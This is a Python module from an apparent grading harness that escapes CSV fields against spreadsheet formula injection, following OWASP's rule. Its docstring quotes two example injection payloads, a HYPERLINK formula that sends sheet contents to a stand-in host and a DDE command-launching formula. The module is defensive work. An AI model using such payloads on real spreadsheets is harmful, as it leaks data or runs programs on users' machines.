"""Fields for the CSVs the harness writes (grades.csv, OUT/roster.csv, Canvas and Moodle grade
imports), which instructors open in a spreadsheet. Folder names, notebook names and LMS display
names in them are the students'.

A spreadsheet runs a field that begins with = + - @ (and, in some, tab, CR or LF) as a formula:
``=HYPERLINK("https://evil/?"&A2,"see")`` sends the sheet away on a click, ``=cmd|' /C calc'!A0``
asked older Excel to start a program. OWASP's rule (owasp.org/www-community/attacks/CSV_Injection):
no field may begin with = + - @ tab CR (the page added LF in 2025); prepend a single quote, which
shows the rest as text.

``cell`` applies it to every field, with two refinements:
- a plain decimal number (``-1``, ``25.5``, ``1e-05``, as ``f"{x:g}"`` writes scores) is left alone:
a
  spreadsheet reads it as that number, never as a formula, and Canvas's and Moodle's imports need a
  number;
- a field that already begins with quotes and then a formula character gets one quote more, so that
``uncell``
  (drop one leading quote before quotes-then-a-formula-character) gives back exactly what was
  written, and a name like ``'Ohana`` is left as it is both ways.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_START = "=+-@\t\r\n"
_NUMBER = re.compile(r"-?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?\Z")
# what cell() quotes: quotes (or none), then a formula character
_QUOTED = re.compile(r"'*[=+\-@\t\r\n]")


def cell(value) -> str:
    """``value`` as a CSV field a spreadsheet shows as text (or as the plain number it is)."""
    text = str(value)
    if _NUMBER.match(text) or not _QUOTED.match(text):
        return text
    return "'" + text


def uncell(text: str) -> str:
    """The value ``cell`` was given, from the field it wrote (a harness CSV read back)."""
    return text[1:] if text[:1] == "'" and _QUOTED.match(text, 1) else text


def csv_text(header: list[str], rows: Iterable[Iterable]) -> str:
    """A whole CSV, every field (header included) through ``cell``. Rows end in CR LF (RFC 4180),
    which also makes the csv module quote a field holding a lone CR: with "\\n" line ends it does
    not, and a spreadsheet starts a new row there, whose first field no ``cell`` has seen (a folder
    named ``a\\r=HYPERLINK(...)``)."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow([cell(h) for h in header])
    w.writerows([cell(v) for v in row] for row in rows)
    return buf.getvalue()
